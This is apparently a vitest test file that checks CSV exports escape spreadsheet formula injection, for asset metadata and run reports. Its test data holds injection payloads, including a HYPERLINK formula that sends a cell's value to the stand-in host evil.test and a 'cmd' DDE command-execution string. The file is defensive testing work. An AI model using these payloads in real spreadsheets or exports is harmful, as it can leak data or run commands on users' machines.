import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { SUCCEEDED, failed } from '../engine/outcomes';
import { planChunks, type RunRecord } from '../engine/runState';
import { assetMetadataFile } from '../ui/bulk/assetMetadata';
import { reportFile } from '../ui/bulk/exportFile';
import { toCsv } from './csv';
import { exportJson } from './export';

/** How a spreadsheet (or a CSV import) reads the text back: cells as strings. */
function read(csv: string): string[][] {
  return Papa.parse<string[]>(csv.trim(), { header: false }).data;
}

describe('CSV exports neutralise formula injection (OWASP)', () => {
  const dangerous = [
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    '+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '=1+1\nsecond line',
  ];

  it('prefixes a quote to every cell that starts like a formula, and quotes it', () => {
    const csv = toCsv(
      ['name'],
      dangerous.map((d) => [d]),
    );
    const cells = read(csv)
      .slice(1)
      .map((r) => r[0]);
    expect(cells).toEqual(dangerous.map((d) => `'${d}`));
    for (const line of csv.split('\n').slice(1, 5)) expect(line.startsWith(`"'`)).toBe(true);
  });

  it('leaves other text as it is', () => {
    const safe = ['a, "b".png', 'plain', '1.5', 'x=1', ' =not first'];
    expect(
      read(
        toCsv(
          ['name'],
          safe.map((s) => [s]),
        ),
      )
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(safe);
  });

  it('asset metadata before delete: names, notes and alt are escaped, the JSON stays exact', () => {
    const upload = {
      id: 'u1',
      type: 'upload',
      attributes: {
        filename: '=HYPERLINK("http://evil.test","x").png',
        notes: '+cmd',
        author: '@me',
        default_field_metadata: { en: { alt: '=1' } },
      },
    };
    const rows = read(assetMetadataFile([upload], 'csv', 's').text);
    const header = rows[0]!;
    const row = rows[1]!;
    expect(row[header.indexOf('filename')]).toBe(`'=HYPERLINK("http://evil.test","x").png`);
    expect(row[header.indexOf('notes')]).toBe(`'+cmd`);
    expect(row[header.indexOf('author')]).toBe(`'@me`);
    expect(JSON.parse(assetMetadataFile([upload], 'json', 's').text)).toEqual([upload]);
  });

  it('run reports: a reason quoting user text is escaped in CSV and exact in JSON', () => {
    const run: RunRecord = {
      id: 'r',
      operationId: 'uploads.addTags',
      input: { tags: ['=evil'] },
      createdAt: 0,
      updatedAt: 0,
      status: 'done',
      chunkSize: 2,
      total: 2,
      chunks: planChunks(2, 2),
      skippedAtResolution: {},
    };
    run.chunks[0]!.state = 'done';
    run.chunks[0]!.outcome = SUCCEEDED;
    run.chunks[0]!.exceptions = { u2: failed('INVALID_FIELD', '=HYPERLINK("x") is not a tag') };
    const csv = read(reportFile([{ run, ids: ['u1', 'u2'] }], 'csv').text);
    expect(csv).toEqual([
      ['id', 'state', 'code', 'reason'],
      ['u1', 'succeeded', '', ''],
      ['u2', 'failed', 'INVALID_FIELD', `'=HYPERLINK("x") is not a tag`],
    ]);
    const json = JSON.parse(exportJson(run, ['u1', 'u2'])) as {
      run: { input: unknown };
      items: { reason?: string }[];
    };
    expect(json.run.input).toEqual({ tags: ['=evil'] });
    expect(json.items[1]!.reason).toBe('=HYPERLINK("x") is not a tag');
  });
});
